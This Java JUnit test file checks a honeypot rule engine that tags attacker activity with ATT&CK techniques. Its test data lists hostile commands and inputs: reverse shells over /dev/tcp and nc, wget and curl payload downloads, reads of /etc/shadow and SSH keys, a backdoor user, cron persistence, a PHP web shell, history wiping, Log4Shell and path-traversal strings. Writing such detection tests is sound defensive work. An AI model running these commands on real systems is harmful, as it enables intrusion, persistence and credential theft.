package decnet.workers.heavy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import decnet.core.Counters;
import decnet.core.DeckyName;
import decnet.core.Event;
import decnet.core.EventId;
import decnet.core.Peer;
import decnet.db.TagRow;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class RuleSetTest {
    @TempDir
    private Path folder;

    private final Counters counters = new Counters();

    private RuleStore store() {
        return new RuleStore(folder, counters);
    }

    private static Event event(String type, String field, String value) {
        return Event.of(Instant.EPOCH, new DeckyName("web-01"), "ssh", type, Map.of(field, value))
                .withConnection("00ff", Peer.of("192.0.2.1", 4711), Peer.of("192.0.2.9", 22))
                .withId(new EventId(1, 2, 3));
    }

    private List<String> rulesFor(String command) {
        return store().rules().tags(event("command", "command", command)).stream()
                .map(TagRow::ruleId)
                .distinct()
                .toList();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "R0010!bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
                "R0010!rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.7 1 >/tmp/f",
                "R0011!python3.11 -c 'import os'",
                "R0011!php -r 'phpinfo();'",
                "R0012!wget http://192.0.2.7/x.sh",
                "R0012!curl 192.0.2.7/x",
                "R0012!tftp -g -r x 192.0.2.7",
                "R0013!cat /etc/passwd",
                "R0014!awk -F: '{print $1}' /etc/shadow",
                "R0015!find / -perm /6000 -type f",
                "R0016!find /home -name id_rsa",
                "R0017!nmap -sS 192.0.2.0/24",
                "R0018!uname",
                "R0018!cat /proc/cpuinfo",
                "R0019!cd /tmp; id",
                "R0020!ip -4 addr",
                "R0021!netstat",
                "R0022!ldapsearch -x -H ldap://192.0.2.7",
                "R0023!smbclient -N -L //192.0.2.7",
                "R0024!useradd -m -s /bin/bash backdoor",
                "R0025!(crontab -l; echo '* * * * * /tmp/x') | crontab -",
                "R0025!echo x > /etc/crontab",
                "R0026!config set dir /root/.ssh",
                "R0027!echo '<?php system($_GET[0]);' > /var/www/html/x.php",
                "R0027!wget http://192.0.2.7/s -O /var/www/html/s.php",
                "R0028!rm -rf /root/.bash_history",
                "R0028!HISTFILE=/dev/null",
                "R0029!sudo -u root id",
            })
    void aCommandIsRecognised(String rule, String command) {
        assertThat(rulesFor(command)).contains(rule);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "R0013!cat /etc/passwd-",
                "R0017!apt install nmap",
                "R0017!man nmap",
                "R0019!cat wid",
                "R0025!crontab -l",
                "R0012!man wget",
            })
    void aHarmlessCommandIsNot(String rule, String command) {
        assertThat(rulesFor(command)).doesNotContain(rule);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "R0007!user_agent!sqlmap/1.7#stable",
                "R0008!target!/?x=${jndi:ldap://192.0.2.7/a}",
                "R0008!target!/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.7%2Fa%7D",
                "R0009!target!/cgi-bin/%2e%2e/%2e%2e/etc/passwd",
                "R0009!target!/..%252f..%252fetc/passwd",
            })
    void aRequestIsRecognised(String rule, String field, String value) {
        assertThat(store().rules().tags(event("http_request", field, value)))
                .extracting(TagRow::ruleId)
                .contains(rule);
    }

    @Test
    void tagIdsAreTheSameEveryTimeAndEverywhere() {
        assertThat(TagId.of("command|cmd_42|R0014|2|T1083|"))
                .isEqualTo(UUID.fromString("9aa491e5-f03b-5d8f-9eb5-161becedcdd6"));
        assertThat(TagId.of("command|cmd_42|R0015|1|T1548|T1548.001"))
                .isEqualTo(UUID.fromString("4fd57b14-c135-544c-97d9-4fabc1051584"));
    }

    @Test
    void matchingALongHostileLineTakesLinearTime() {
        String line = "cat " + "x ".repeat(30_000);

        assertThat(rulesFor(line)).doesNotContain("R0013", "R0014");
    }

    private static String rule(String id, String pattern) {
        return """
            rule_id: %s
            rule_version: 1
            name: test
            applies_to: [command]
            match:
              pattern: '%s'
            emits:
              - technique_id: T1059
                tactic: TA0002
                confidence: 0.5
            """.formatted(id, pattern);
    }

    @Test
    void aNewFileIsInForceAfterTheNextLookAndABadOneChangesNothing() throws IOException {
        RuleStore store = store();
        Path file = folder.resolve("mine.yaml");
        Files.writeString(file, rule("X0001", "evilcorp"));
        store.refresh();
        assertThat(store.rules().tags(event("command", "command", "run evilcorp")))
                .extracting(TagRow::ruleId)
                .containsExactly("X0001");

        Files.writeString(file, rule("X0001", "evil(") + "# longer than before\n");
        store.refresh();

        assertThat(counters.value(HeavyCounter.RULES_REFUSED)).isEqualTo(1);
        assertThat(store.rules().tags(event("command", "command", "run evilcorp")))
                .extracting(TagRow::ruleId)
                .containsExactly("X0001");

        Files.delete(file);
        store.refresh();
        assertThat(store.rules().tags(event("command", "command", "run evilcorp")))
                .isEmpty();
    }

    @Test
    void anOwnRuleReplacesABuiltInOneOfTheSameIdAndCanSwitchItOff() throws IOException {
        Files.writeString(folder.resolve("off.yaml"), rule("R0014", "x") + "state: disabled\n");

        assertThat(rulesFor("cat /etc/shadow")).doesNotContain("R0014");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "rule_version: 1!rule_version: 0!rule_version",
                "confidence: 0.5!confidence: 1.5!confidence",
                "T1059!T59!technique_id",
                "TA0002!TA2!tactic",
                "[command]![nonsense]!applies_to",
                "'x'!'(?=x)'!match.pattern",
            })
    void whatIsWrongWithARuleIsSaid(String right, String wrong, String named) {
        String yaml = rule("X0001", "x").replace(right, wrong);

        assertThatThrownBy(() -> new RuleReader().read(yaml.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(MalformedRuleException.class)
                .hasMessageContaining(named);
    }
}
